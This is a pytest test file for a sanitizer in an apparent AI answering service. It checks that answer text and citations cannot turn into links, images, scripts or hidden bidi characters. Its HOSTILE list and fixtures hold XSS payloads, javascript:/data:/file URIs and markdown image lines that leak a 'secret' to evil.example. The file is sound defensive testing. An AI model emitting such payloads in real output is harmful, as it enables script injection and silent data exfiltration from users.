"""Links, images and HTML come only from citations; what nobody sees does not travel; quotes stay verbatim."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from raftops.answer.answering import Answer, Conflict
from raftops.answer.inert import inert, safe_uri
from raftops.answer.router import Route
from raftops.data.records import Citation, Hit, Locator, Passage, Unit
from raftops.service.wire import Reply, results

HOSTILE = [
    "[the form](javascript:alert('PWNED'))",
    "![](http://evil.example/?q=secret)",
    "![x](data:image/png;base64,AAAA)",
    "[![x](http://evil.example/a)](http://evil.example/b)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<http://evil.example/?q=1>",
    "see https://evil.example/?q=secret today",
    "www.evil.example/a",
    "[a][b]\n\n[b]: http://evil.example",
    "[a [b] c](http://evil.example)",
    "[a](<http://evil.example> 'x')",
    "[a\nb](http://evil.example)",
    "![a][b]\n\n[b]: data:text/html,x",
    "[a](http://evil.example/((x)))",
    "<a\nhref=//evil>x</a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_markdown_of_a_text_becomes_a_link_an_image_or_a_tag(text):
    for name in ("gfm-like", "commonmark"):
        render = MarkdownIt(name, {"linkify": False, "html": True})
        render.validateLink = lambda _: True  # not every client refuses javascript:
        assert re.search(r"<(?:a|img|script)\b", render.render(text), re.IGNORECASE) or "://" in text or "www" in text
        assert not re.search(r"<(?:a|img|script)\b", render.render(inert(text)), re.IGNORECASE)
    assert not re.search(r"(?<!`)https?://", inert(text))


def test_plain_sentences_and_markers_stay_as_they_are():
    for text in ("Leave: “30 days, at < 5 % [a]” [1][2]", "Write to hr@example.org. Ratio 3<5.", "می‌خواهم 👩‍💻 naïve"):
        assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Run `curl https://a.example/z` first.", "Run `curl https://a.example/z` first."),
        ("`a https://evil.example b", "'a `https://evil.example` b"),
        ("`www.evil.example/a", "'`www.evil.example/a`"),
        ("`a\nhttps://evil.example `", "'a\n`https://evil.example` '"),
        ("|`a | https://evil.example `|", "|'a | `https://evil.example` '|"),
        ("_https://evil.example/a_ _www.evil.example_", "_`https://evil.example/a_` _`www.evil.example_`"),
        ("```sh\nget https://a.example\n```", "```sh\nget `https://a.example`\n```"),
        ("```https://evil.example", "'''`https://evil.example`"),
        ("a ` alone, and `code`", "a ` alone, and `code`"),
    ],
)
def test_an_address_is_code_and_no_backtick_of_a_text_opens_it(text, shown):
    assert inert(text) == shown


def test_marks_of_direction_of_no_width_and_tags_are_gone():
    hidden = "pay\u202efdp\u2066x\u200by\u200e\U000e0041\x1b[31m"
    assert inert(hidden) == "payfdpxy[31m"


@pytest.mark.parametrize(
    ("uri", "safe"),
    [
        ("https://a.example/x.md", True),
        ("mailto:hr@a.example", True),
        ("leave/a%20b.md", True),
        ("leave/annual leave.md", True),
        (" javascript:alert(1)", False),
        ("leave/a.md ", False),
        ("", True),
        ("javascript:alert(1)", False),
        ("JaVa\tScript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example", False),
        ("\\\\evil", False),
        ("vbscript:x", False),
        ("file:///etc/passwd", False),
    ],
)
def test_addresses_of_citations_have_known_schemes(uri, safe):
    assert safe_uri(uri) == (uri if safe else "")


def reply(text: str, **more: object) -> Reply:
    quote = "[x](javascript:alert(1)) \u202eevil"
    citation = Citation(1, "a.md", "v", "javascript:alert(1)", quote, 0, len(quote), {"headings": ("<img src=x>",)})
    conflict = Conflict(citation, "\u202etitle", "number", "normal", "")
    near = Unit(1, "x", "a.md", "v", "![](http://e.example)", "javascript:x", "p", 0, 1, Locator(), 1.0)
    answer = Answer(text, (citation,), Route("knowledge", 1.0), "quote", conflicts=(conflict,), units=(near,), **more)
    return Reply("1", 0, "m", "r", answer)


def test_what_travels_is_text_alone_and_quotes_are_verbatim():
    sent = reply("[a](javascript:alert(1)) \u202ex").completion()
    assert sent["choices"][0]["message"]["content"] == "a x"
    (citation,) = sent["citations"]
    assert citation["uri"] == "" and citation["locator"]["headings"] == ["\u2039img src=x>"]
    assert len(citation["quote"]) == citation["end"]  # offsets hold
    assert sent["conflicts"][0]["title"] == "title" and sent["conflicts"][0]["citation"]["uri"] == ""
    assert (
        "".join(c["choices"][0]["delta"].get("content", "") for c in reply("![](http://e.example)x").chunks(False))
        == "x"
    )


def test_a_reply_in_a_format_is_not_rewritten_and_a_search_has_no_foreign_link():
    held = reply('{"a": "<b>", "u": "https://x.example"}', held=True)
    assert held.text == '{"a": "<b>", "u": "https://x.example"}'
    passage = Passage("p", "a.md", "v", "<b>t\u202e", "text", 0, 4, Locator(("![](x)",)), "p", "javascript:x", 1)
    (row,) = results([Hit(passage, 1.0)], "r")["data"]
    assert (row["title"], row["uri"], row["locator"]["headings"]) == ("\u2039b>t", "", [""])
